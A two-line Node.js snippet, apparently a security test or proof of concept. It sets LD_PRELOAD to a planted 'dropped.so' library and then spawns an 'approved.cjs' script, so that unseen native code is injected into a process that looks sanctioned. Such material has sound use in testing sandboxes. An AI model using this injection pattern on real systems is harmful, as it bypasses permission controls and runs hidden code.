process.env.LD_PRELOAD = __dirname + '/dropped.so';
require('child_process').spawnSync(process.execPath, ['approved.cjs'], { stdio: 'inherit' });
